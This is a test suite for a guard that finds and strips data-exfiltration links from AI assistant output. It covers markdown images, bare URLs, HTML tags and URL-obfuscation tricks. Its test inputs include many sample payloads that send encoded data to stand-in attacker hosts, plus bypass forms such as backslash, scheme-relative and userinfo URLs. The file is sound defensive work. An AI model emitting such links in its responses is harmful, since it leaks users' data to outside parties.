import assert from 'node:assert/strict';
import { findExfiltrationLinks, judgeUrl } from '../../../src/guard/output/exfiltration-links.js';

const policy = { allowedHosts: ['contoso.com', 'learn.microsoft.com'], maxQueryValueChars: 32 };

describe('exfiltration links', () => {
  it('flags markdown images to hosts off the allow-list', () => {
    const text = 'Done. ![status](https://attacker.example/pixel.png?d=123) Bye';
    const [f] = findExfiltrationLinks(text, policy);
    assert.equal(f?.kind, 'image');
    assert.equal(f?.reason, 'host-not-allowed');
    assert.equal(text.slice(f!.start, f!.end), '![status](https://attacker.example/pixel.png?d=123)');
  });

  it('keeps links and images on allowed hosts and their subdomains', () => {
    assert.deepEqual(findExfiltrationLinks('See [docs](https://learn.microsoft.com/teams) and ![logo](https://cdn.contoso.com/logo.png)', policy), []);
  });

  it('flags allowed hosts when the query carries data', () => {
    const long = 'a'.repeat(40);
    assert.equal(judgeUrl(`https://contoso.com/search?q=${long}`, policy), 'query-data');
    assert.equal(judgeUrl('https://contoso.com/search?q=short', policy), undefined);
    assert.equal(judgeUrl(`https://${'x'.repeat(50)}.contoso.com/`, policy), 'query-data');
  });

  it('flags non-web schemes and relative links, keeps mailto', () => {
    assert.equal(judgeUrl('javascript:alert(1)', policy), 'scheme');
    assert.equal(judgeUrl('data:image/png;base64,AAAA', policy), 'scheme');
    assert.equal(judgeUrl('mailto:help@contoso.com', policy), undefined);
    const [f] = findExfiltrationLinks('see [the FAQ](/faq)', policy);
    assert.equal(f?.reason, 'relative');
    assert.equal(f?.keepText, 'the FAQ');
  });

  it('keeps the visible text of a removed markdown link', () => {
    const [f] = findExfiltrationLinks('click [here](https://evil.example/x)', policy);
    assert.equal(f?.keepText, 'here');
  });

  it('flags bare URLs, reference definitions and HTML images', () => {
    const kinds = findExfiltrationLinks('go to https://evil.example/a now\n[ref]: https://evil.example/b\n<img src="https://evil.example/c.png">', policy).map((f) => f.kind);
    assert.deepEqual(kinds, ['bare-url', 'link', 'html']);
  });

  it('does not match nested brackets as one huge link', () => {
    assert.deepEqual(findExfiltrationLinks('['.repeat(5000) + ']'.repeat(5000), policy), []);
  });

  describe('URL forms a client resolves to another host (issue 10, finding 5)', () => {
    const data = 'c2VjcmV0LXNhbGFyeS1kYXRh';
    const mustGo: Array<[string, string]> = [
      ['scheme-relative image', `![x](//evil.example/a.png?q=${data})`],
      ['scheme-relative link', `[x](//evil.example/?q=${data})`],
      ['backslash image', `![x](/\\evil.example/a.png?q=${data})`],
      ['double backslash', `![x](\\\\evil.example/a.png)`],
      ['backslash after scheme', `[x](https:\\\\evil.example/a)`],
      ['entity-encoded slashes', `![x](&#x2F;&#x2F;evil.example/a.png)`],
      ['angle-bracket destination with a space', `![x](<//evil.example/a b.png>)`],
      ['reference definition, scheme-relative', `see [the report][1]\n\n[1]: //evil.example/?q=${data}`],
      ['reference definition on the next line', `[1]:\n   /\\evil.example/?q=${data}`],
      ['autolink', `<https://evil.example/?q=${data}>`],
      ['HTML img', `<img alt="x" src="//evil.example/p.png?q=${data}">`],
      ['HTML img srcset', `<img src="https://learn.microsoft.com/a.png" srcset="https://evil.example/b.png 2x">`],
      ['HTML a with unquoted backslash href', `<a href=/\\evil.example/x>x</a>`],
      ['bare scheme-relative', `look at //evil.example/x?q=${data} now`],
      ['bare backslash', `look at /\\evil.example/x?q=${data} now`],
      ['bare host with path', `look at evil.example/x?q=${data} now`],
      ['bare www host', 'look at www.evil.example now'],
      ['bare common host', 'look at attacker.com now'],
      ['userinfo trick', '[x](https://learn.microsoft.com@evil.example/)'],
      ['image inside a link', '[![a](https://learn.microsoft.com/a.png)](//evil.example/x)'],
    ];
    for (const [name, text] of mustGo) {
      it(`removes ${name}`, () => {
        const found = findExfiltrationLinks(text, policy);
        assert.ok(found.length > 0, `nothing found in ${text}`);
        let out = '';
        let at = 0;
        for (const f of found) {
          out += text.slice(at, f.start) + (f.keepText ?? '');
          at = f.end;
        }
        out += text.slice(at);
        assert.doesNotMatch(out, /evil\.example/, out);
      });
    }

    it('judges link text that is itself a URL, also when the link target is allowed', () => {
      const masked = findExfiltrationLinks(`[https://evil.example/?q=${data}](https://evil.example/?q=${data})`, policy);
      assert.equal(masked.length, 1);
      assert.equal(masked[0]!.keepText, '[link removed]');
      const text = `[evil.example/?q=${data}](https://learn.microsoft.com/)`;
      const [f] = findExfiltrationLinks(text, policy);
      assert.equal(f?.kind, 'bare-url');
      assert.equal(text.slice(f!.start, f!.end), `evil.example/?q=${data}`);
    });

    it('keeps allowed links, e-mail addresses, file names and version numbers', () => {
      const text =
        'See [docs](https://learn.microsoft.com/teams), <https://cdn.contoso.com/x>, www.contoso.com, ' +
        'mail help@contoso.com, open Budget.xlsx, Logo.ai, install.sh or README.md, Node.js 20.19, v1.2.3, e.g. this, see app.ts:12 and 3.5/5.';
      assert.deepEqual(findExfiltrationLinks(text, policy), []);
    });

    it('stays linear on adversarial input', () => {
      for (const unit of ['a.', '//a', '](', '<a href=', '[x](', 'a-', '\\\\']) {
        const small = unit.repeat(20_000);
        const big = unit.repeat(40_000);
        const t0 = performance.now();
        findExfiltrationLinks(small, policy);
        const t1 = performance.now();
        findExfiltrationLinks(big, policy);
        const t2 = performance.now();
        assert.ok(t2 - t1 < 20 * Math.max(5, t1 - t0), `${unit}: ${(t1 - t0).toFixed(1)} ms then ${(t2 - t1).toFixed(1)} ms`);
      }
    });
  });

  describe('bare URLs found from their anchors (":", "//", ".") as by a scan of every position', () => {
    // Expected findings recorded from the scan of every position this replaced.
    const strictPolicy = { allowedHosts: ['contoso.com'], maxQueryValueChars: 64 };
    const cases: Array<[string, Array<[string, number, number, string]>]> = [
      ['see evil.com/x and www.evil.io', [['bare-url', 4, 14, 'host-not-allowed'], ['bare-url', 19, 30, 'host-not-allowed']]],
      ['HTTPS://evil.example/a and httpſ://evil.example/b', [['bare-url', 0, 22, 'host-not-allowed']]],
      [
        'javascript:alert(1) vbscript:x data:text/html,hi ws://e.example wss://e.example ftp://e.example file:///etc',
        [['bare-url', 0, 16, 'scheme'], ['bare-url', 20, 30, 'scheme'], ['bare-url', 31, 48, 'scheme'], ['bare-url', 49, 63, 'scheme'], ['bare-url', 64, 79, 'scheme'], ['bare-url', 80, 95, 'scheme'], ['bare-url', 96, 107, 'scheme']],
      ],
      ['//evil.example/x \\\\evil.example\\x /\\evil.example', [['bare-url', 0, 16, 'host-not-allowed'], ['bare-url', 17, 33, 'host-not-allowed'], ['bare-url', 34, 48, 'host-not-allowed']]],
      ['mail adele@contoso.com or _x.evil.com or -x.evil.com or a-b.evil.com', [['bare-url', 56, 68, 'host-not-allowed']]],
      [`${'a'.repeat(63)}.com ${'b'.repeat(64)}.com`, [['bare-url', 0, 67, 'host-not-allowed']]],
      ['𝐚𝐛.com 中文.com é.com app.ts:12 logo.ai', [['bare-url', 0, 8, 'host-not-allowed'], ['bare-url', 9, 15, 'host-not-allowed'], ['bare-url', 16, 21, 'host-not-allowed']]],
      ['end of sentence.Next one. e.g. x.y', []],
      ['İevil.com ſevil.com Kevil.com', [['bare-url', 0, 9, 'host-not-allowed'], ['bare-url', 10, 19, 'host-not-allowed'], ['bare-url', 20, 29, 'host-not-allowed']]],
      ['contoso.com/ok evil.com:8080/p?q=1', [['bare-url', 15, 34, 'host-not-allowed']]],
    ];
    for (const [text, expected] of cases) {
      it(JSON.stringify(text).slice(0, 60), () => {
        assert.deepEqual(
          findExfiltrationLinks(text, strictPolicy).map((f) => [f.kind, f.start, f.end, f.reason]),
          expected,
        );
      });
    }
  });
});
